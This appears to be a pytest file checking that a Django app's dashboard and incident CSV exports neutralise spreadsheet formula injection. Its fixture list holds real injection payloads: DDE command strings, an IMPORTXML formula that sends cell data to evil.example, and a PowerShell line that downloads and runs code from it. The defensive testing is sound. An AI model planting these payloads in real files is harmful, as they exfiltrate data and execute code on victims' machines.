"""Every CSV export neutralises formula injection: a cell that starts with = + - @, a tab
or a carriage return reaches the spreadsheet as text (a leading apostrophe), whoever wrote it.

Exports found: the dashboards' incident export and widget tables. Post-mortems export
Markdown, not CSV; incidents have no CSV export of their own.
"""

from __future__ import annotations

import csv
import io

import pytest

from dashboards.exports import WIDGETS, csv_lines, csv_safe
from incidents.services import incident_create

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/","Open report")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
]


def _cells(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"formula cell reaches the spreadsheet: {cell!r}"


@pytest.mark.parametrize("value", HOSTILE_CELLS)
def test_csv_safe_prefixes_every_formula_start(value):
    cell = csv_safe(value)

    assert cell == "'" + value
    _assert_no_formula(_cells("".join(csv_lines(["a"], [[value]])))[1:])


@pytest.mark.parametrize("value", ["Plain title", "", "It's fine", "2026-11-23", "CSEA - links"])
def test_csv_safe_leaves_ordinary_text_alone(value):
    assert csv_safe(value) == value


def test_csv_safe_keeps_numbers_numbers():
    assert csv_safe(-3) == "-3"
    assert csv_safe(None) == ""


@pytest.fixture
def exporter(make_user):
    return make_user("exporter", role="analyst")


def _login(client, user):
    client.force_login(user)
    return client


def test_incident_export_neutralises_hostile_titles(client, manager, exporter):
    stored = []
    for title in HOSTILE_CELLS:
        incident = incident_create(
            actor=manager, data={"title": title, "summary": "x", "channel": "internal_detection", "harm_category": "other"}
        )
        stored.append(incident.title)  # the service trims surrounding whitespace
    assert all(title.startswith(FORMULA_STARTS) for title in stored)

    response = _login(client, exporter).get("/dashboards/export/incidents.csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = _cells(b"".join(response.streaming_content).decode())
    titles = [row[1] for row in rows[1:]]
    assert sorted(titles) == sorted("'" + t for t in stored)
    _assert_no_formula(rows)


@pytest.mark.parametrize("widget", WIDGETS)
def test_every_widget_export_is_formula_free(client, manager, exporter, widget):
    for title in HOSTILE_CELLS[:3]:
        incident_create(actor=manager, data={"title": title, "summary": "x", "channel": "internal_detection", "harm_category": "other"})

    response = _login(client, exporter).get(f"/dashboards/export/{widget}.csv")

    assert response.status_code == 200, response.content[:300]
    _assert_no_formula(_cells(b"".join(response.streaming_content).decode()))
